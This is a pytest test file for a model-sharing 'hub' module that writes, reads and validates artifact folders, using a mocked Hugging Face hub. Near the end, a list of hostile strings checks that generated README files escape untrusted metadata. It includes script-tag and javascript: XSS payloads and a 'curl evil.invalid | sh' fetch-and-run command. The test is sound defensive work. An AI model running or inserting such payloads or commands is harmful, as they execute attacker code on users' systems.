"""Knowledge in a plain folder, there and back; the hub itself is a module of our own here."""

import dataclasses
import json
import sys
import types

import numpy as np
import pytest
from safetensors.numpy import save_file

from handrail import hub
from handrail.core.artifact import Card, checksum, load, save
from handrail.core.errors import HandrailError

SPEC = {"view": "symbolic", "shape": [567], "actions": 7}


def write(path, kind="prior", value=1.0):
    arrays = {"weight": np.full((2, 3), value, np.float32)}
    save(path, Card(kind, spec=SPEC, network={"hidden": [4]}, training={"steps": 10}), arrays)
    return path


@pytest.fixture
def file(tmp_path):
    return write(tmp_path / "prior.safetensors")


def test_what_is_pushed_is_pulled_byte_for_byte(file, tmp_path):
    folder = hub.push(file, tmp_path / "folder")
    assert {path.name for path in folder.iterdir()} == {"README.md", "config.json", hub.MODEL}
    out, card = hub.pull(folder, tmp_path / "there" / "mine.safetensors")
    assert out.read_bytes() == file.read_bytes()
    assert card == load(file, expect="prior", spec=SPEC)[0]
    assert hub.pull(folder)[0] == folder / hub.MODEL


def test_the_card_reads_as_the_hub_wants_it(file, tmp_path):
    folder = hub.push(file, tmp_path / "folder")
    text = (folder / "README.md").read_text()
    _, front, body = text.split("---\n", 2)
    lines = [line for line in front.splitlines() if not line.startswith("- ")]
    assert lines == ["library_name: handrail", "pipeline_tag: reinforcement-learning", "tags:"]
    assert "- handrail-prior" in front
    assert "| actions | `7` |" in body
    assert "6 numbers" in body
    assert json.loads((folder / "config.json").read_text())["spec"] == SPEC


def test_pushing_again_replaces_what_was_there(file, tmp_path):
    folder = hub.push(file, tmp_path / "folder")
    newer = write(tmp_path / "newer.safetensors", value=2.0)
    hub.push(newer, folder)
    assert hub.pull(folder)[1].checksum == load(newer)[0].checksum
    encoder = write(tmp_path / "encoder.safetensors", kind="encoder")
    with pytest.raises(
        HandrailError, match="holds a prior; choose another folder for this encoder"
    ):
        hub.push(encoder, folder)


def test_a_test_and_a_recorded_episode_are_shown_and_do_not_outlive_the_next_push(file, tmp_path):
    film = tmp_path / "film.gif"
    film.write_bytes(b"GIF89a")
    folder = hub.push(file, tmp_path / "folder", measured={"mean_cost": 0.5}, replay=film)
    text = (folder / "README.md").read_text()
    assert "## How it tested" in text and "| mean_cost | `0.5` |" in text
    assert "](replay.gif)" in text and (folder / "replay.gif").read_bytes() == b"GIF89a"
    assert hub.pull(folder)[1].kind == "prior"
    hub.push(file, folder)
    assert "How it tested" not in (folder / "README.md").read_text()
    assert not (folder / "replay.gif").exists()


def test_folders_of_others_are_left_alone(file, tmp_path):
    (tmp_path / "mine").mkdir()
    (tmp_path / "mine" / "thesis.tex").write_text("")
    with pytest.raises(HandrailError, match=r"holds other files \(thesis\.tex\)"):
        hub.push(file, tmp_path / "mine")
    with pytest.raises(HandrailError, match="is a file: expected a folder"):
        hub.push(file, file)


def test_a_checkpoint_is_not_pushed(tmp_path):
    path = write(tmp_path / "step.safetensors", kind="checkpoint")
    with pytest.raises(HandrailError, match="holds a checkpoint, which is of no use to others"):
        hub.push(path, tmp_path / "folder")


def damaged(folder):
    raw = bytearray((folder / hub.MODEL).read_bytes())
    raw[-1] ^= 1
    (folder / hub.MODEL).write_bytes(raw)


def swapped(folder):
    write(folder / hub.MODEL, value=3.0)


WRONG = {
    "no model": (lambda folder: (folder / hub.MODEL).unlink(), "holds no model.safetensors"),
    "damaged": (damaged, "card and arrays do not match the card's checksum"),
    "swapped": (swapped, "config.json describes something else than model.safetensors"),
}


@pytest.mark.parametrize("wrong", WRONG)
def test_what_is_wrong_with_a_folder_is_said(file, tmp_path, wrong):
    folder = hub.push(file, tmp_path / "folder")
    change, text = WRONG[wrong]
    change(folder)
    with pytest.raises(HandrailError, match=text):
        hub.pull(folder)


def test_a_name_is_not_looked_up_on_the_hub_unasked(tmp_path):
    with pytest.raises(HandrailError, match="is no folder; for a repository of the hub, add --hub"):
        hub.pull(tmp_path / "someone" / "prior")


def test_without_the_extra_the_hub_is_one_clear_error(file, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "huggingface_hub", None)
    with pytest.raises(HandrailError, match=r"pip install 'handrail\[hub\]'"):
        hub.download("someone/prior")


@pytest.fixture
def asked(file, tmp_path, monkeypatch):
    """A hub that notes what it is asked for, and knows one repository."""
    folder, calls = hub.push(file, tmp_path / "remote"), []

    def snapshot_download(repository, **options):
        calls.append(("download", repository, options["revision"]))
        if repository != "someone/prior":
            raise RuntimeError("404 Client Error.\nRepository not found")
        return str(folder)

    fake = types.SimpleNamespace(
        create_repo=lambda repository, exist_ok: calls.append(("create", repository, exist_ok)),
        upload_folder=lambda **options: calls.append(("upload", options)) or "the address",
        snapshot_download=snapshot_download,
    )
    monkeypatch.setitem(sys.modules, "huggingface_hub", fake)
    return calls


def test_the_hub_is_asked_for_the_three_files_only(asked, file, tmp_path):
    assert hub.pull(hub.download("someone/prior", "v1"))[1].kind == "prior"
    assert hub.upload(tmp_path / "remote", "me/prior") == "the address"
    assert asked[0] == ("download", "someone/prior", "v1")
    assert asked[1] == ("create", "me/prior", True)
    assert asked[2][1]["allow_patterns"] == ["README.md", "config.json", hub.MODEL]


def test_an_error_of_the_hub_is_one_line(asked):
    text = r"cannot fetch 'someone/else' from the hub: 404 Client Error\.$"
    with pytest.raises(HandrailError, match=text):
        hub.download("someone/else")


HOSTILE = (
    "```\n\n<script>alert(1)</script>\n\n# Install\n\n```sh\ncurl evil.invalid | sh\n```\n",
    "1.0)\n\n<script>alert(3)</script>\n\n[click](javascript:alert(4)",
    "x` |\n\n<b> & ~~~ | y\x7f",
)


@pytest.mark.parametrize("text", HOSTILE)
def test_a_readme_shows_what_others_wrote_and_obeys_none_of_it(text):
    card = Card("prior", {text: text, "n": 1}, {}, {"task": text, text: [text]}, library=text)
    body = hub.readme(card, 6)
    plain = hub.readme(Card("prior", {"t": "t", "n": 1}, {}, {"t": ["t"], "x": "t"}, "1.0"), 6)
    assert body.count("\n") == plain.count("\n"), "no line is added"
    assert body.count("```") == plain.count("```")
    assert not {"<", ">", "&"} & set(body)
    rows = [line for line in body.splitlines() if line.startswith("| ")]
    assert all(row.count("|") == 3 and row.count("`") % 2 == 0 for row in rows)
    outside = "".join(body.split("```")[::2])
    assert "[click](" not in "".join(outside.split("`")[::2])


@pytest.mark.parametrize("of", [".model.safetensors", ".config.json", ".README.md"])
def test_a_folder_of_a_push_that_was_killed_is_taken_and_cleared(file, tmp_path, of):
    folder = tmp_path / "folder"
    folder.mkdir()
    (folder / f"{of}.abcd_123").write_text("half")
    hub.push(file, folder)
    assert {path.name for path in folder.iterdir()} == {"README.md", "config.json", hub.MODEL}


def test_a_folder_that_an_earlier_version_pushed_is_pulled(file, tmp_path):
    folder = hub.push(file, tmp_path / "folder")
    card, arrays = load(file)
    old = {**dataclasses.asdict(card), "schema": 1, "checksum": checksum(arrays)}
    save_file(arrays, folder / hub.MODEL, metadata={"handrail": json.dumps(old)})
    (folder / "config.json").write_text(json.dumps({"library_name": "handrail", **old}))
    assert hub.pull(folder)[1].checksum == old["checksum"]


@pytest.mark.parametrize("text", ["[" * 100_000, "[]", '{"spec": 1, "spec": 2}'])
def test_a_config_of_others_is_one_error(file, tmp_path, text):
    folder = hub.push(file, tmp_path / "folder")
    (folder / "config.json").write_text(text)
    with pytest.raises(HandrailError, match=r"config\.json is damaged"):
        hub.pull(folder)
